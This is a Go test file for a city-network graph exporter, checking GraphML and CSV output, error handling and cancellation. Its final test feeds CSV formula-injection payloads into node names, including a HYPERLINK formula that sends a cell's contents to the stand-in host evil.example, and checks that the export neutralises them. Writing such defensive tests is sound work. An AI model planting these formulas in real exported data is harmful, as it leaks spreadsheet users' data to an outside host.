package export_test

import (
	"bytes"
	"cmp"
	"context"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"

	"citynet/data"
	"citynet/export"
	"citynet/graph"
	"citynet/graph/memory"
	"citynet/graph/storetest"
)

// exportFunc is the shape every export shares.
type exportFunc func(ctx context.Context, w io.Writer, s graph.Store) error

var exports = []struct {
	name string
	fn   exportFunc
}{
	{"GraphML", export.GraphML},
	{"NodesCSV", export.NodesCSV},
	{"EdgesCSV", export.EdgesCSV},
	{"GeoJSON", export.GeoJSON},
}

// MustStore opens the embedded store on ds.
func MustStore(tb testing.TB, ds *graph.Dataset) graph.Store {
	tb.Helper()
	s, err := memory.New(ds)
	if err != nil {
		tb.Fatalf("memory.New: got error %v, want nil", err)
	}
	tb.Cleanup(func() { s.Close() })
	return s
}

// MustCorpus loads the bundled dataset (Polish names and quotes).
func MustCorpus(tb testing.TB) *graph.Dataset {
	tb.Helper()
	ds, err := data.Load()
	if err != nil {
		tb.Fatalf("data.Load: got error %v, want nil", err)
	}
	return ds
}

// specialSynthetic is the synthetic dataset with markup characters, quotes,
// Polish letters and separators in node names and a relationship title.
// (Not a newline: names are one line, and the graph refuses control
// characters in them.)
func specialSynthetic() *graph.Dataset {
	ds := storetest.Synthetic()
	ds.Cities[0].Name = `Alpha & <Omega> "Łódź" 'Zażółć gęślą jaźń'`
	ds.Cities[0].LocalName = "Ąę, ćź; śż"
	ds.Networks[0].Name = `League <of> "Cities" & Towns`
	ds.Offices[0].Title = `Prezydent "Miasta" & <Gminy>, Wójt; Ś`
	return ds
}

// walked is what a store's Walk yields, to compare exports against.
type walked struct {
	nodes []graph.Node
	edges []graph.Edge
}

func MustWalk(tb testing.TB, s graph.Store) walked {
	tb.Helper()
	var w walked
	err := s.Walk(context.Background(), func(n graph.Node) error {
		w.nodes = append(w.nodes, n)
		return nil
	}, func(e graph.Edge) error {
		w.edges = append(w.edges, e)
		return nil
	})
	if err != nil {
		tb.Fatalf("Walk: got error %v, want nil", err)
	}
	return w
}

// datasetNodeIDs lists every node id of ds, sorted.
func datasetNodeIDs(ds *graph.Dataset) []string {
	var ids []string
	add := func(id string) { ids = append(ids, id) }
	for _, n := range ds.Cities {
		add(n.ID)
	}
	for _, n := range ds.Countries {
		add(n.ID)
	}
	for _, n := range ds.Networks {
		add(n.ID)
	}
	for _, n := range ds.Institutions {
		add(n.ID)
	}
	for _, n := range ds.People {
		add(n.ID)
	}
	for _, n := range ds.Events {
		add(n.ID)
	}
	for _, n := range ds.Partnerships {
		add(n.ID)
	}
	for _, n := range ds.Sources {
		add(n.ID)
	}
	slices.Sort(ids)
	return ids
}

type gmlData struct {
	Key   string `xml:"key,attr"`
	Value string `xml:",chardata"`
}

// gmlDoc is the part of GraphML the tests read.
type gmlDoc struct {
	XMLName xml.Name `xml:"graphml"`
	Keys    []struct {
		ID       string `xml:"id,attr"`
		For      string `xml:"for,attr"`
		AttrName string `xml:"attr.name,attr"`
		AttrType string `xml:"attr.type,attr"`
	} `xml:"key"`
	Graph struct {
		EdgeDefault string `xml:"edgedefault,attr"`
		Nodes       []struct {
			ID   string    `xml:"id,attr"`
			Data []gmlData `xml:"data"`
		} `xml:"node"`
		Edges []struct {
			ID     string    `xml:"id,attr"`
			Source string    `xml:"source,attr"`
			Target string    `xml:"target,attr"`
			Data   []gmlData `xml:"data"`
		} `xml:"edge"`
	} `xml:"graph"`
}

// MustGraphML exports s as GraphML and parses it back.
func MustGraphML(tb testing.TB, s graph.Store) (gmlDoc, []byte) {
	tb.Helper()
	var buf bytes.Buffer
	if err := export.GraphML(context.Background(), &buf, s); err != nil {
		tb.Fatalf("GraphML: got error %v, want nil", err)
	}
	var doc gmlDoc
	if err := xml.Unmarshal(buf.Bytes(), &doc); err != nil {
		tb.Fatalf("GraphML output does not parse: %v\n%s", err, buf.Bytes())
	}
	return doc, buf.Bytes()
}

// dataMap turns <data> elements into attribute name → value, checking that
// each key is declared for the element's domain and used once.
func dataMap(tb testing.TB, what string, data []gmlData, keys map[string]string) map[string]string {
	tb.Helper()
	out := map[string]string{}
	for _, d := range data {
		name, ok := keys[d.Key]
		if !ok {
			tb.Errorf("%s: data key %q: not declared for this element", what, d.Key)
			continue
		}
		if _, dup := out[name]; dup {
			tb.Errorf("%s: attribute %q given twice", what, name)
		}
		out[name] = d.Value
	}
	return out
}

// want returns the non-empty attributes, as GraphML leaves empty ones out.
func want(kv ...string) map[string]string {
	m := map[string]string{}
	for i := 0; i < len(kv); i += 2 {
		if kv[i+1] != "" {
			m[kv[i]] = kv[i+1]
		}
	}
	return m
}

func joinSources(cs []graph.Citation) string {
	var ids []string
	for _, c := range cs {
		if !slices.Contains(ids, c.SourceID) {
			ids = append(ids, c.SourceID)
		}
	}
	return strings.Join(ids, ";")
}

func localName(n graph.Node) string {
	switch n := n.(type) {
	case *graph.City:
		return n.LocalName
	case *graph.Country:
		return n.LocalName
	case *graph.Network:
		return n.LocalName
	case *graph.Institution:
		return n.LocalName
	case *graph.Event:
		return n.LocalName
	}
	return ""
}

// checkGraphML checks the export of ds against the dataset and, item by
// item, against what the store's Walk yields.
func checkGraphML(t *testing.T, ds *graph.Dataset) {
	s := MustStore(t, ds)
	doc, raw := MustGraphML(t, s)
	w := MustWalk(t, s)

	if !bytes.HasPrefix(raw, []byte(xml.Header)) {
		t.Errorf("document start: got %.60q, want the XML declaration", raw)
	}
	if doc.XMLName.Space != export.GraphMLNamespace {
		t.Errorf("namespace: got %q, want %q", doc.XMLName.Space, export.GraphMLNamespace)
	}
	if doc.Graph.EdgeDefault != "directed" {
		t.Errorf("edgedefault: got %q, want directed", doc.Graph.EdgeDefault)
	}
	keys := map[string]map[string]string{"node": {}, "edge": {}}
	numeric := map[string]string{"lat": "double", "lon": "double", "population": "long", "geonamesId": "long"}
	for _, k := range doc.Keys {
		if wantType := cmp.Or(numeric[k.AttrName], "string"); keys[k.For] == nil || k.AttrType != wantType || k.AttrName == "" {
			t.Errorf("key %+v: want for node|edge, a name and attr.type %s", k, wantType)
			continue
		}
		keys[k.For][k.ID] = k.AttrName
	}

	var gotIDs []string
	declared := map[string]bool{}
	for _, n := range doc.Graph.Nodes {
		gotIDs = append(gotIDs, n.ID)
		declared[n.ID] = true
	}
	slices.Sort(gotIDs)
	if wantIDs := datasetNodeIDs(ds); !slices.Equal(gotIDs, wantIDs) {
		t.Errorf("node ids:\ngot  %v\nwant %v", gotIDs, wantIDs)
	}
	if got, want := len(doc.Graph.Edges), len(ds.Edges()); got != want {
		t.Errorf("edges: got %d, want %d (ds.Edges)", got, want)
	}

	if len(doc.Graph.Nodes) == len(w.nodes) {
		for i, n := range doc.Graph.Nodes {
			wn := w.nodes[i]
			got := dataMap(t, "node "+n.ID, n.Data, keys["node"])
			var country, scope, kind, founded, date, lat, lon, population, geonamesID string
			switch wn := wn.(type) {
			case *graph.City:
				country = wn.CountryID
				if p := wn.Location(); p != nil {
					lat, lon = strconv.FormatFloat(p.Lat, 'f', -1, 64), strconv.FormatFloat(p.Lon, 'f', -1, 64)
				}
				if wn.Population > 0 {
					population = strconv.FormatInt(wn.Population, 10)
				}
				if wn.GeonamesID > 0 {
					geonamesID = strconv.FormatInt(wn.GeonamesID, 10)
				}
			case *graph.Institution:
				country, kind = wn.CountryID, string(wn.Kind)
			case *graph.Network:
				scope, kind, founded = string(wn.Scope), string(wn.Kind), string(wn.Founded)
			case *graph.Event:
				kind, date = string(wn.Kind), string(wn.Date)
			case *graph.Partnership:
				kind, date = string(wn.Kind), string(wn.Date)
			}
			want := want("type", string(wn.NodeType()), "label", wn.Label(), "local_name", localName(wn),
				"country", country, "scope", scope, "kind", kind, "founded", founded, "date", date,
				"lat", lat, "lon", lon, "population", population, "geonamesId", geonamesID)
			if n.ID != wn.NodeID() || !mapsEqual(got, want) {
				t.Errorf("node %d:\ngot  %s %v\nwant %s %v", i, n.ID, got, wn.NodeID(), want)
			}
		}
	} else {
		t.Errorf("nodes: got %d, want %d (Walk)", len(doc.Graph.Nodes), len(w.nodes))
	}

	for i, e := range doc.Graph.Edges {
		if want := fmt.Sprintf("e%d", i); e.ID != want {
			t.Errorf("edge %d id: got %q, want %q", i, e.ID, want)
		}
		if !declared[e.Source] || !declared[e.Target] {
			t.Errorf("edge %s: %s → %s refers to an undeclared node", e.ID, e.Source, e.Target)
		}
		got := dataMap(t, "edge "+e.ID, e.Data, keys["edge"])
		if i >= len(w.edges) {
			continue
		}
		we := w.edges[i]
		want := want("type", string(we.Type), "since", string(we.Since), "until", string(we.Until), "status", string(we.Status),
			"title", we.Title, "date", string(we.Date), "sources", joinSources(we.Sources))
		if e.Source != we.From || e.Target != we.To || !mapsEqual(got, want) {
			t.Errorf("edge %s:\ngot  %s→%s %v\nwant %s→%s %v", e.ID, e.Source, e.Target, got, we.From, we.To, want)
		}
	}
}

func mapsEqual(a, b map[string]string) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if bv, ok := b[k]; !ok || bv != v {
			return false
		}
	}
	return true
}

func TestGraphML(t *testing.T) {
	t.Run("OK", func(t *testing.T) { checkGraphML(t, storetest.Synthetic()) })
	t.Run("OKCorpus", func(t *testing.T) { checkGraphML(t, MustCorpus(t)) })
	t.Run("OKGeographic", func(t *testing.T) { checkGraphML(t, storetest.Geographic()) })
	t.Run("OKGeoValues", func(t *testing.T) {
		// The values parse back as the numbers written, in the types the
		// keys declare; a city without coordinates has no lat or lon.
		ds := storetest.Geographic()
		doc, _ := MustGraphML(t, MustStore(t, ds))
		names := map[string]string{}
		for _, k := range doc.Keys {
			names[k.ID] = k.AttrName
		}
		got := map[string]map[string]string{}
		for _, n := range doc.Graph.Nodes {
			got[n.ID] = dataMap(t, n.ID, n.Data, names)
		}
		for _, c := range ds.Cities {
			g := got[c.ID]
			if c.Lat == nil {
				if _, ok := g["lat"]; ok || g["lon"] != "" {
					t.Errorf("%s: got lat %q lon %q, want neither (no coordinates)", c.ID, g["lat"], g["lon"])
				}
				continue
			}
			lat, err1 := strconv.ParseFloat(g["lat"], 64)
			lon, err2 := strconv.ParseFloat(g["lon"], 64)
			if err1 != nil || err2 != nil || lat != *c.Lat || lon != *c.Lon {
				t.Errorf("%s: got lat %q lon %q, want %v %v", c.ID, g["lat"], g["lon"], *c.Lat, *c.Lon)
			}
		}
		pop, err1 := strconv.ParseInt(got["gdansk"]["population"], 10, 64)
		id, err2 := strconv.ParseInt(got["gdansk"]["geonamesId"], 10, 64)
		if err1 != nil || err2 != nil || pop != 461865 || id != 3099434 {
			t.Errorf("gdansk: got population %q geonamesId %q, want 461865 3099434", got["gdansk"]["population"], got["gdansk"]["geonamesId"])
		}
		if _, ok := got["warsaw"]["population"]; ok {
			t.Errorf("warsaw: got population %q, want none (unknown)", got["warsaw"]["population"])
		}
	})
	t.Run("OKSpecialCharacters", func(t *testing.T) {
		ds := specialSynthetic()
		checkGraphML(t, ds) // compares every value with the store's
		doc, raw := MustGraphML(t, MustStore(t, ds))
		for _, s := range []string{"&amp;", "&lt;Omega&gt;", "Zażółć gęślą jaźń"} {
			if !bytes.Contains(raw, []byte(s)) {
				t.Errorf("output: got no %q", s)
			}
		}
		var label string
		for _, n := range doc.Graph.Nodes {
			if n.ID == "alpha" {
				for _, d := range n.Data {
					if d.Key == "n_label" {
						label = d.Value
					}
				}
			}
		}
		if label != ds.Cities[0].Name {
			t.Errorf("alpha label: got %q, want %q", label, ds.Cities[0].Name)
		}
	})
	t.Run("OKValues", func(t *testing.T) {
		_, raw := MustGraphML(t, MustStore(t, storetest.Synthetic()))
		for _, s := range []string{
			`<node id="n1">`, `<data key="n_scope">EUROPEAN</data>`, `<data key="n_founded">1986</data>`,
			`<data key="n_local_name">Liga Północna</data>`, `<edge id="e0" source="alpha" target="ev1">`, `source="alpha" target="n1">`,
			`<data key="e_sources">s1;s2</data>`, `<data key="e_since">--10-15</data>`,
		} {
			if !bytes.Contains(raw, []byte(s)) {
				t.Errorf("output: got no %s", s)
			}
		}
	})
}

// MustCSV runs a CSV export of s and parses it.
func MustCSV(tb testing.TB, fn exportFunc, s graph.Store) [][]string {
	tb.Helper()
	var buf bytes.Buffer
	if err := fn(context.Background(), &buf, s); err != nil {
		tb.Fatalf("export: got error %v, want nil", err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		tb.Fatalf("output does not parse as CSV: %v", err)
	}
	if len(rows) == 0 {
		tb.Fatalf("output: got no header")
	}
	return rows
}

func TestNodesCSV(t *testing.T) {
	for _, tc := range []struct {
		name string
		ds   func(testing.TB) *graph.Dataset
	}{
		{"OK", func(testing.TB) *graph.Dataset { return storetest.Synthetic() }},
		{"OKCorpus", MustCorpus},
		{"OKSpecialCharacters", func(testing.TB) *graph.Dataset { return specialSynthetic() }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			ds := tc.ds(t)
			s := MustStore(t, ds)
			rows := MustCSV(t, export.NodesCSV, s)
			if !slices.Equal(rows[0], export.NodeColumns) {
				t.Errorf("header: got %v, want %v", rows[0], export.NodeColumns)
			}
			w := MustWalk(t, s)
			if got, want := len(rows)-1, len(datasetNodeIDs(ds)); got != want {
				t.Fatalf("rows: got %d, want %d nodes", got, want)
			}
			for i, n := range w.nodes {
				row := rows[i+1]
				if row[0] != n.NodeID() || row[1] != string(n.NodeType()) || row[2] != n.Label() || row[4] != localName(n) {
					t.Errorf("row %d: got %q, want id %q type %s label %q local_name %q", i+1, row, n.NodeID(), n.NodeType(), n.Label(), localName(n))
				}
			}
		})
	}
	t.Run("OKValues", func(t *testing.T) {
		rows := MustCSV(t, export.NodesCSV, MustStore(t, storetest.Synthetic()))
		for _, want := range [][]string{
			{"alpha", "CITY", "Alphaville", "Alphaville", "Alfawil", "AA", "", "", "", "", "", "", "", "", ""},
			{"n1", "NETWORK", "Northern League", "Northern League", "Liga Północna", "", "EUROPEAN", "ASSOCIATION", "1986", "", "", "", "", "", ""},
			{"agency", "INSTITUTION", "Beta Agency", "Beta Agency", "", "BB", "", "AGENCY", "", "", "", "", "", "", ""},
			{"ev2", "EVENT", "Spring Workshop", "Spring Workshop", "", "", "", "WORKSHOP", "", "--04", "", "", "", "", ""},
			{"pa2", "PARTNERSHIP", "pa2", "", "", "", "", "LETTER_OF_INTENT", "", "2009", "", "", "", "", ""},
			{"s1", "SOURCE", "Alpha Chronicle", "Alpha Chronicle", "", "", "", "", "", "", "", "", "", "", ""},
		} {
			if !slices.ContainsFunc(rows, func(r []string) bool { return slices.Equal(r, want) }) {
				t.Errorf("rows: got no %q", want)
			}
		}
	})
	t.Run("OKGeoValues", func(t *testing.T) {
		// Numbers are not defused: apia's longitude starts with "-" and
		// must still read as a number.
		rows := MustCSV(t, export.NodesCSV, MustStore(t, storetest.Geographic()))
		col := func(name string) int { return slices.Index(rows[0], name) }
		for _, want := range []struct{ id, lat, lon, population, year, geonamesID string }{
			{"gdansk", "54.35205", "18.64637", "461865", "2022", "3099434"},
			{"apia", "-13.83333", "-171.76666", "", "", ""},
			{"nomad", "", "", "", "", ""},
		} {
			i := slices.IndexFunc(rows, func(r []string) bool { return r[0] == want.id })
			if i < 0 {
				t.Fatalf("no row for %s", want.id)
			}
			r := rows[i]
			got := []string{r[col("lat")], r[col("lon")], r[col("population")], r[col("populationYear")], r[col("geonamesId")]}
			if !slices.Equal(got, []string{want.lat, want.lon, want.population, want.year, want.geonamesID}) {
				t.Errorf("%s: got lat, lon, population, populationYear, geonamesId %q, want %q", want.id, got,
					[]string{want.lat, want.lon, want.population, want.year, want.geonamesID})
			}
			if want.lat != "" {
				if lon, err := strconv.ParseFloat(r[col("lon")], 64); err != nil || strconv.FormatFloat(lon, 'f', -1, 64) != want.lon {
					t.Errorf("%s: lon %q does not parse back as %s (%v)", want.id, r[col("lon")], want.lon, err)
				}
			}
		}
	})
	t.Run("OKStopsAtFirstEdge", func(t *testing.T) {
		s := &countingStore{Store: MustStore(t, storetest.Synthetic())}
		MustCSV(t, export.NodesCSV, s)
		if s.edges != 1 {
			t.Errorf("edges walked: got %d, want 1 (the walk stops there)", s.edges)
		}
	})
}

func TestEdgesCSV(t *testing.T) {
	for _, tc := range []struct {
		name string
		ds   func(testing.TB) *graph.Dataset
	}{
		{"OK", func(testing.TB) *graph.Dataset { return storetest.Synthetic() }},
		{"OKCorpus", MustCorpus},
		{"OKSpecialCharacters", func(testing.TB) *graph.Dataset { return specialSynthetic() }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			ds := tc.ds(t)
			s := MustStore(t, ds)
			rows := MustCSV(t, export.EdgesCSV, s)
			if !slices.Equal(rows[0], export.EdgeColumns) {
				t.Errorf("header: got %v, want %v", rows[0], export.EdgeColumns)
			}
			if got, want := len(rows)-1, len(ds.Edges()); got != want {
				t.Fatalf("rows: got %d, want %d edges", got, want)
			}
			for i, e := range MustWalk(t, s).edges {
				want := []string{e.From, e.To, string(e.Type), string(e.Since), string(e.Until), string(e.Status), e.Title, string(e.Date), joinSources(e.Sources)}
				if !slices.Equal(rows[i+1], want) {
					t.Errorf("row %d:\ngot  %q\nwant %q", i+1, rows[i+1], want)
				}
			}
		})
	}
}

// countingStore counts what Walk yields to the export.
type countingStore struct {
	graph.Store
	nodes, edges int
}

func (s *countingStore) Walk(ctx context.Context, node func(graph.Node) error, edge func(graph.Edge) error) error {
	return s.Store.Walk(ctx, func(n graph.Node) error {
		s.nodes++
		return node(n)
	}, func(e graph.Edge) error {
		s.edges++
		return edge(e)
	})
}

// cancelStore cancels the context when the export has seen `after` items,
// and walks with a context of its own so that only the export's own checks
// can stop it.
type cancelStore struct {
	graph.Store
	after, seen int
	cancel      context.CancelFunc
}

func (s *cancelStore) Walk(_ context.Context, node func(graph.Node) error, edge func(graph.Edge) error) error {
	tick := func() {
		if s.seen++; s.seen == s.after {
			s.cancel()
		}
	}
	return s.Store.Walk(context.Background(), func(n graph.Node) error {
		tick()
		return node(n)
	}, func(e graph.Edge) error {
		tick()
		return edge(e)
	})
}

// failStore's Walk yields a few nodes, then fails.
type failStore struct {
	graph.Store
	err error
}

func (s failStore) Walk(ctx context.Context, node func(graph.Node) error, edge func(graph.Edge) error) error {
	for _, n := range []graph.Node{&graph.City{ID: "a", Name: "A"}, &graph.City{ID: "b", Name: "B"}} {
		if err := node(n); err != nil {
			return err
		}
	}
	return s.err
}

var errBroken = errors.New("broken pipe")

// failingWriter accepts n bytes, then fails.
type failingWriter struct {
	n       int
	written int
}

func (w *failingWriter) Write(p []byte) (int, error) {
	if w.written+len(p) > w.n {
		k := w.n - w.written
		w.written = w.n
		return k, errBroken
	}
	w.written += len(p)
	return len(p), nil
}

func TestExports_Errors(t *testing.T) {
	corpus := MustCorpus(t)
	for _, ex := range exports {
		t.Run(ex.name, func(t *testing.T) {
			t.Run("ErrWriter", func(t *testing.T) {
				var full bytes.Buffer
				if err := ex.fn(context.Background(), &full, MustStore(t, corpus)); err != nil {
					t.Fatalf("export: got error %v, want nil", err)
				}
				size := full.Len()
				for _, n := range []int{0, 1, 100, size / 2, size - 1} {
					err := ex.fn(context.Background(), &failingWriter{n: n}, MustStore(t, corpus))
					if !errors.Is(err, errBroken) {
						t.Errorf("writer failing after %d bytes: got error %v, want %v", n, err, errBroken)
					}
				}
			})
			t.Run("ErrCancelledBefore", func(t *testing.T) {
				ctx, cancel := context.WithCancel(context.Background())
				cancel()
				var buf bytes.Buffer
				err := ex.fn(ctx, &buf, MustStore(t, storetest.Synthetic()))
				if !errors.Is(err, context.Canceled) {
					t.Errorf("got error %v, want %v", err, context.Canceled)
				}
				if buf.Len() != 0 {
					t.Errorf("output: got %d bytes, want none", buf.Len())
				}
			})
			t.Run("ErrCancelledDuring", func(t *testing.T) {
				ctx, cancel := context.WithCancel(context.Background())
				defer cancel()
				s := &cancelStore{Store: MustStore(t, corpus), after: 5, cancel: cancel}
				if ex.name == "EdgesCSV" {
					s.after = len(datasetNodeIDs(corpus)) + 5 // cancel among the edges
				}
				var buf bytes.Buffer
				err := ex.fn(ctx, &buf, s)
				if !errors.Is(err, context.Canceled) {
					t.Errorf("got error %v, want %v", err, context.Canceled)
				}
				if s.seen != s.after {
					t.Errorf("items walked: got %d, want %d (stop at the cancellation)", s.seen, s.after)
				}
				if bytes.Contains(buf.Bytes(), []byte("</graphml>")) {
					t.Errorf("output: got a complete document, want it cut short")
				}
			})
			t.Run("ErrStore", func(t *testing.T) {
				errStore := errors.New("store failed")
				var buf bytes.Buffer
				err := ex.fn(context.Background(), &buf, failStore{err: errStore})
				if !errors.Is(err, errStore) {
					t.Errorf("got error %v, want %v", err, errStore)
				}
				if bytes.Contains(buf.Bytes(), []byte("</graphml>")) {
					t.Errorf("output: got a complete document, want it cut short")
				}
			})
		})
	}
}

// BenchmarkExports exports the dataset directory named by
// CITYNET_EXPORT_DATA (for example one written by cmd/gen), or the bundled
// dataset, to io.Discard: the export alone, without loading the store.
func BenchmarkExports(b *testing.B) {
	ds := MustCorpus(b)
	if dir := os.Getenv("CITYNET_EXPORT_DATA"); dir != "" {
		var err error
		if ds, err = graph.LoadDataset(os.DirFS(dir), "."); err != nil {
			b.Fatalf("loading %s: %v", dir, err)
		}
	}
	s := MustStore(b, ds)
	for _, ex := range exports {
		b.Run(ex.name, func(b *testing.B) {
			var n countWriter
			if err := ex.fn(context.Background(), &n, s); err != nil {
				b.Fatal(err)
			}
			b.SetBytes(int64(n))
			b.ReportAllocs()
			for b.Loop() {
				if err := ex.fn(context.Background(), io.Discard, s); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

type countWriter int

func (c *countWriter) Write(p []byte) (int, error) {
	*c += countWriter(len(p))
	return len(p), nil
}

func TestCSV_FormulaInjection(t *testing.T) {
	ds := storetest.Synthetic()
	ds.Cities[0].Name = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	ds.Cities[0].LocalName = "@SUM(A1:A9)"
	ds.Cities[1].Name = "+1+1"
	ds.Networks[0].Name = "-2+3"
	ds.Offices[0].Title = "=1+1"
	s := MustStore(t, ds)
	nodes := MustCSV(t, export.NodesCSV, s)
	for _, want := range [][2]string{
		{ds.Cities[0].ID, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{ds.Cities[1].ID, "'+1+1"},
		{ds.Networks[0].ID, "'-2+3"},
	} {
		i := slices.IndexFunc(nodes, func(r []string) bool { return r[0] == want[0] })
		if i < 0 || nodes[i][2] != want[1] || nodes[i][3] != want[1] {
			t.Errorf("node %s: got %q, want label and name %q", want[0], nodes[max(i, 0)], want[1])
		}
	}
	if i := slices.IndexFunc(nodes, func(r []string) bool { return r[0] == ds.Cities[0].ID }); nodes[i][4] != "'@SUM(A1:A9)" {
		t.Errorf("local_name: got %q, want '@SUM(A1:A9)", nodes[i][4])
	}
	// Dates keep their form: "--04" is a validated date, not a formula.
	if !slices.ContainsFunc(nodes, func(r []string) bool { return r[0] == "ev2" && r[9] == "--04" }) {
		t.Error(`event ev2: want its date "--04" unchanged`)
	}
	edges := MustCSV(t, export.EdgesCSV, s)
	if !slices.ContainsFunc(edges, func(r []string) bool { return r[2] == "HOLDS_OFFICE" && r[6] == "'=1+1" }) {
		t.Errorf("edges: no HOLDS_OFFICE row with title '=1+1 in %q", edges)
	}
	for _, r := range append(nodes, edges...) {
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+@", rune(cell[0])) {
				t.Errorf("a cell starts with a formula character: %q in %q", cell, r)
			}
		}
	}
}
